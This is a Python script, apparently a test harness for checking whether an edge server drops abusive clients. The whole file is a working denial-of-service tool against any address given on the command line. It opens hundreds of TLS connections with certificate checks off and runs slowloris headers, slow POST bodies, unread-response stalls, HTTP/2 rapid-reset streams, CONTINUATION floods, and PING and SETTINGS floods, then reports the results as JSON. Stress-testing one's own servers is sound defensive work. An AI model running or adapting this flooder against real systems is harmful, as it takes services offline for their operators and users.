# SPDX-License-Identifier: GPL-3.0-or-later
"""What a host does that means ill, by itself and without any library: attacker.py KIND ADDRESS DOMAIN SECONDS

Says at its end, as JSON, how many connections it made, how many of them the edge ended, and how much it sent.
"""

from __future__ import annotations

import json
import socket
import ssl
import struct
import sys
import time

CONNECTIONS = {
    "slow headers": 400,
    "slow bodies": 400,
    "unread answers": 200,
    "resets": 20,
    "endless headers": 50,
    "pings": 20,
    "settings": 20,
}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Attacker:
    def __init__(self, kind: str, address: str, domain: str) -> None:
        self.kind, self.address, self.domain = kind, address, domain
        self.made = self.ended = self.sent = 0
        self.http2 = kind not in ("slow headers", "slow bodies", "unread answers")

    def connect(self) -> ssl.SSLSocket:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2" if self.http2 else "http/1.1"])
        plain = socket.create_connection((self.address, 443), 10)
        if self.kind == "unread answers":
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        connection = context.wrap_socket(plain, server_hostname=self.domain)
        connection.settimeout(0.5)
        self.made += 1
        return connection

    def request(self) -> bytes:
        """Fields of a GET of / as HPACK has them, none of them new to its table."""
        name = self.domain.encode()
        return b"\x82\x87\x84\x01" + bytes([len(name)]) + name

    def opening(self) -> bytes:
        if self.http2:
            start = frame(HEADERS, 0, 1, self.request()) if self.kind == "endless headers" else b""
            return PREFACE + frame(SETTINGS, 0, 0) + start
        host = f"Host: {self.domain}\r\n"
        if self.kind == "slow headers":
            return f"GET / HTTP/1.1\r\n{host}".encode()
        if self.kind == "slow bodies":
            return f"POST /write HTTP/1.1\r\n{host}Content-Type: application/json\r\nContent-Length: 65536\r\n\r\n".encode()
        return (f"GET / HTTP/1.1\r\n{host}\r\n" * 100).encode()

    def drip(self, turn: int) -> bytes:
        """What is sent each time that the connection takes something."""
        if self.kind == "slow headers":
            return b"X-Another: header\r\n"
        if self.kind == "slow bodies":
            return b" "
        if self.kind == "unread answers":
            return b""
        if self.kind == "endless headers":
            # A field that is not indexed, hence taken as it is.
            return frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")
        if self.kind == "pings":
            return frame(PING, 0, 0, b"12345678") * 50
        if self.kind == "settings":
            return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 50
        streams = range(turn * 100 + 1, turn * 100 + 101, 2)
        return b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, self.request())
            + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in streams
        )

    def over(self, connection: ssl.SSLSocket) -> bool:
        """Take what there is to be read, and know whether that was all."""
        connection.settimeout(0)
        try:
            return not connection.recv(65536)
        except ssl.SSLWantReadError:
            return False
        finally:
            connection.settimeout(0.5)

    def run(self, seconds: float) -> dict[str, int]:
        turns: dict[ssl.SSLSocket, int] = {}
        end = time.monotonic() + seconds
        pause = 0.0 if self.kind in ("resets", "pings", "settings") else 0.5
        while time.monotonic() < end:
            # A few at a time, so that those that are there do something meanwhile.
            for _new in range(
                min(25, CONNECTIONS[self.kind] - len(turns), 10 * CONNECTIONS[self.kind] - self.made)
            ):
                try:
                    connection = self.connect()
                    connection.sendall(self.opening())
                except OSError:
                    self.ended += 1
                    break
                turns[connection] = 0
            for connection in list(turns):
                try:
                    if self.kind != "unread answers" and self.over(connection):
                        raise ConnectionResetError
                    data = self.drip(turns[connection])
                    connection.sendall(data)
                    self.sent += len(data)
                    turns[connection] += 1
                except TimeoutError:
                    continue
                except OSError:
                    self.ended += 1
                    connection.close()
                    del turns[connection]
            time.sleep(pause)
        return {"made": self.made, "ended": self.ended, "sent": self.sent}


if __name__ == "__main__":
    print(json.dumps(Attacker(*sys.argv[1:4]).run(float(sys.argv[4]))))
